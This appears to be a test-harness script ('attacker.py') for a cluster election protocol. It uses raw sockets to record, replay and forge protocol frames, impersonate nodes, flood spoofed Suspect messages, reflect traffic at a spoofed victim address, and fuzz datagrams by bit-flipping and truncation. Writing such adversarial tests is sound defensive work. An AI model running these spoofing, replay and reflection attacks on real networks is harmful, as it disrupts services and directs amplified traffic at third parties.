#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
#
# attacker.py - somebody on the LAN who has no key: records what passes, sends it again, and makes datagrams of its own.
#
#   attacker.py record FILE                every frame of eldest that enters the network namespace, from when FILE is
#                                          there until it is ended; without the checksum of UDP
#
# All others send out of INTERFACE, by default so fast that a source is not limited for it. FILE is what was recorded.
#
#   attacker.py replay FILE INTERFACE [TIMES [RATE]]
#                                          all of it, so often, RATE frames a second; as it was, but for the address of
#                                          the card, which would lead the switch astray
#   attacker.py astray FILE INTERFACE      all of it, and the address of the card too
#   attacker.py forge FILE INTERFACE TYPE NODE [EPOCH]
#                                          a Leader, Resign, Farewell or Suspect of the node with that id, made of what
#                                          FILE has of it; 20 times
#   attacker.py storm FILE INTERFACE NODE EPOCH COUNT RATE
#                                          Suspects of that leader, each by another node that is not there, from many
#                                          addresses
#   attacker.py pose FILE INTERFACE NODE COUNT RATE
#                                          what means nothing, from the address of that node
#   attacker.py ceiling FILE INTERFACE EPOCH
#                                          a Leader, an Election, a Heartbeat and an Ack with each epoch at which
#                                          something ends, EPOCH being the present one
#   attacker.py climb FILE INTERFACE NODE EPOCH STEPS
#                                          Leaders of the node with that id, each of an epoch so far above the last one,
#                                          EPOCH being the first, as is just believed
#   attacker.py reflect FILE INTERFACE TYPE TO COUNT [stranger [all]]
#                                          the last Page or Heartbeat to a single node, so often, in the name of the host
#                                          TO, where the answers go; or the longest one, of a node that is not there, to
#                                          the same node or to everybody. Prints how many bytes that was, from the IP
#                                          header on
#   attacker.py flip FILE INTERFACE        all of it, each with one bit changed somewhere in its datagram
#   attacker.py flip-each FILE INTERFACE   a datagram of each type, with each bit changed in turn
#   attacker.py shorten FILE INTERFACE     a datagram of each type, at each length
#
# A file has, for each frame, its length in 2 bytes and the frame. Prints how many frames it wrote or sent.

import random
import signal
import socket
import struct
import sys
import time

PORTS = range(29417, 29434)
ETHERNET, IPV4, UDP, MAC = 14, 20, 8, 16
HEADER = 47  # of a datagram, without the name of the cluster and what its flags add
ELECTION, LEADER, HEARTBEAT, ACK, SUSPECT, RESIGN, FAREWELL, PAGE = 2, 4, 5, 6, 8, 10, 11, 15
OWN_TOKEN = 66  # where it is in the body of a Heartbeat
EPOCH_MAX, EPOCH_STEP_MAX = 2**53 - 1, 2**20
EVERYBODY = "224.0.0.254"
GENTLY = 1500  # frames a second: what one source may send


def datagram_of(frame):
    """The datagram in a frame, or None if it is not one of eldest by IPv4."""
    if frame[12:14] != b"\x08\x00" or frame[14] != 0x45 or frame[23] != socket.IPPROTO_UDP:
        return None
    to = struct.unpack(">H", frame[36:38])[0]
    return frame[ETHERNET + IPV4 + UDP :] if to in PORTS else None


def listen():
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))


def without_checksum(frame):
    """UDP needs none in IPv4; a virtual card has not even computed it, and what it left there the kernel would refuse."""
    return frame[:40] + b"\0\0" + frame[42:]


def record(path):
    heard, count = listen(), 0
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(print(count)))
    with open(path, "wb", buffering=0) as file:
        while True:
            frame, (_, _, kind, _, _) = heard.recvfrom(2048)
            if kind != socket.PACKET_OUTGOING and datagram_of(frame):
                frame = without_checksum(frame)
                file.write(struct.pack(">H", len(frame)) + frame)
                count += 1


def read(path):
    frames, at = [], 0
    with open(path, "rb") as file:
        content = file.read()
    while at + 2 <= len(content):
        length = struct.unpack_from(">H", content, at)[0]
        if at + 2 + length <= len(content):
            frames.append(content[at + 2 : at + 2 + length])
        at += 2 + length
    return frames


def send(frames, interface, rate=20000, astray=False, told=None):
    """From the address of this card, or the switch would no longer find the others."""
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    own, begin, count = out.getsockname()[4], time.monotonic(), 0
    for frame in frames:
        ahead = count / rate - (time.monotonic() - begin)
        if ahead > 0:
            time.sleep(ahead)
        out.send(frame if astray else frame[:6] + own + frame[12:])
        count += 1
    print(count if told is None else told)


def checksum(head):
    total = sum(struct.unpack(f">{len(head) // 2}H", head))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def addressed(like, datagram, to=None, port=None):
    """A frame with that datagram from the sender of another frame, to the same receiver or another one. UDP needs no
    checksum in IPv4."""
    head = struct.pack(">BBHHHBBH", 0x45, 0, IPV4 + UDP + len(datagram), 0, 0, 255, socket.IPPROTO_UDP, 0)
    head += like[26:30] + (to or like[30:34])
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    ports = like[34:36] + (port or like[36:38])
    return like[:14] + head + ports + struct.pack(">HH", UDP + len(datagram), 0) + datagram


def multicast(like, datagram):
    """The same to everybody."""
    frame = addressed(like, datagram, socket.inet_aton(EVERYBODY), struct.pack(">H", PORTS[0]))
    return bytes.fromhex("01005e0000fe") + frame[6:]


def sender_of(datagram):
    return datagram[11 + datagram[10] : 27 + datagram[10]]


def body_of(datagram):
    """Where it begins."""
    return HEADER + datagram[10] + 8 * (datagram[7] & 1) + 24 * (datagram[7] >> 1 & 1)


def renewed(datagram, changes, seq):
    """With bytes of its body changed, by their places there, and as if it came after all that was sent so far."""
    datagram = bytearray(datagram)
    datagram[HEADER + datagram[10] - 8 : HEADER + datagram[10]] = struct.pack(">Q", seq)
    for place, value in changes.items():
        place += body_of(datagram)
        datagram[place : place + len(value)] = value
    return bytes(datagram)


def samples(frames):
    """The last frame of each type, by type."""
    return {datagram_of(frame)[6]: frame for frame in frames}


def latest_of(frames, node):
    """The last frame of that node."""
    for frame in reversed(frames):
        datagram = datagram_of(frame)
        if sender_of(datagram) == node:
            return frame, datagram
    sys.exit("nothing of that node was recorded")


def key_of(node):
    return struct.pack(">HQq", 100, 1, 0) + node


def forged(frames, kind, node, epoch, seq):
    frame, datagram = latest_of(frames, node)
    head = datagram[: HEADER + datagram[10]]
    head = head[:6] + bytes([kind, 0]) + head[8:-8] + struct.pack(">Q", seq)
    token = struct.pack(">Q", epoch) + node
    bodies = {
        LEADER: struct.pack(">Q", epoch) + key_of(node) + struct.pack(">QIqII", 10**12, 1, 10**6, 9, 1) + bytes(32),
        SUSPECT: token + struct.pack(">QI", seq, 1000),
        RESIGN: struct.pack(">Q", epoch) + bytes(16) + struct.pack(">q", 0) + b"\x01",
        FAREWELL: token + b"\x01",
    }
    mac = bytes(MAC) if head[8:10] == b"\0\0" else random.randbytes(MAC)
    return multicast(frame, head + bodies[kind] + mac)


def forge(path, interface, kind, node, epoch="1"):
    kinds = {"leader": LEADER, "suspect": SUSPECT, "resign": RESIGN, "farewell": FAREWELL}
    frames, seq = read(path), random.getrandbits(62)
    send([forged(frames, kinds[kind], bytes.fromhex(node), int(epoch), seq + i) for i in range(20)], interface, 1000)


def storm(path, interface, node, epoch, count, rate):
    frame, datagram = latest_of(read(path), bytes.fromhex(node))
    head, token = datagram[: 11 + datagram[10]], struct.pack(">Q", int(epoch)) + bytes.fromhex(node)
    head = head[:6] + bytes([SUSPECT, 0]) + head[8:]
    mac = MAC if head[8:10] != b"\0\0" else 0

    def suspect():
        sender = random.randbytes(16) + struct.pack(">I", 1) + random.randbytes(8) + struct.pack(">Q", 1)
        body = token + random.randbytes(8) + struct.pack(">I", 1000)
        like = frame[:29] + bytes([random.randrange(50, 250)]) + frame[30:]
        return multicast(like, head + sender + body + random.randbytes(mac) + bytes(MAC - mac))

    send((suspect() for _ in range(int(count))), interface, int(rate))


def pose(path, interface, node, count, rate):
    frame, datagram = latest_of(read(path), bytes.fromhex(node))
    send((multicast(frame, datagram[:47] + random.randbytes(80)) for _ in range(int(count))), interface, int(rate))


def strange(datagram):
    """By a node that nobody knows."""
    at = 11 + datagram[10]
    return datagram[:at] + random.randbytes(16) + struct.pack(">I", 1) + random.randbytes(8) + datagram[at + 28 :]


def reflect(path, interface, kind, to, count, whose="member", whom="one"):
    kinds = {"page": PAGE, "heartbeat": HEARTBEAT}
    asked = [frame for frame in read(path) if datagram_of(frame)[6] == kinds[kind] and datagram_of(frame)[7] & 1]
    frame = max(reversed(asked), key=len) if whose == "stranger" else asked[-1]
    datagram = strange(datagram_of(frame)) if whose == "stranger" else datagram_of(frame)
    like = frame[:26] + socket.inet_aton(to) + frame[30:]
    frame = multicast(like, datagram) if whom == "all" else addressed(like, datagram)
    send([frame] * int(count), interface, GENTLY, told=(len(frame) - ETHERNET) * int(count))


def ceiling(path, interface, epoch):
    epochs = [int(epoch) + EPOCH_STEP_MAX + 1, EPOCH_MAX, EPOCH_MAX + 1, 2**64 - 1, int(epoch) + EPOCH_STEP_MAX]
    frames, seq = [], random.getrandbits(62)
    for kind, like in samples(read(path)).items():
        for number in epochs if kind in (ELECTION, LEADER, HEARTBEAT, ACK) else []:
            number, seq = struct.pack(">Q", number), seq + 1
            changes = {0: number, OWN_TOKEN: number} if kind == HEARTBEAT else {0: number}
            frames.append(addressed(like, renewed(datagram_of(like), changes, seq)))
    send(frames, interface, GENTLY)


def climb(path, interface, node, epoch, steps):
    frames, seq, node = read(path), random.getrandbits(62), bytes.fromhex(node)
    epochs = [int(epoch) + (i + 1) * EPOCH_STEP_MAX for i in range(int(steps))]
    send([forged(frames, LEADER, node, epoch, seq + i) for i, epoch in enumerate(epochs)], interface, GENTLY)


def flipped(frame, bit):
    """The checksum is taken out, or the kernel would see it."""
    datagram = bytearray(datagram_of(frame))
    datagram[bit // 8] ^= 1 << bit % 8
    return addressed(frame, bytes(datagram))


def flip(path, interface):
    send((flipped(frame, random.randrange(8 * len(datagram_of(frame)))) for frame in read(path)), interface)


def flip_each(path, interface):
    frames = samples(read(path)).values()
    send((flipped(frame, bit) for frame in frames for bit in range(8 * len(datagram_of(frame)))), interface, GENTLY)


def shorten(path, interface):
    frames = samples(read(path)).values()
    send(
        (addressed(frame, datagram_of(frame)[:length]) for frame in frames for length in range(len(datagram_of(frame)))),
        interface,
        GENTLY,
    )


def replay(path, interface, times="1", rate="20000"):
    send(read(path) * int(times), interface, int(rate))


def astray(path, interface):
    send(read(path), interface, GENTLY, astray=True)


VERBS = {
    "record": record,
    "replay": replay,
    "astray": astray,
    "forge": forge,
    "storm": storm,
    "pose": pose,
    "reflect": reflect,
    "ceiling": ceiling,
    "climb": climb,
    "flip": flip,
    "flip-each": flip_each,
    "shorten": shorten,
}

if __name__ == "__main__":
    VERBS[sys.argv[1]](*sys.argv[2:])
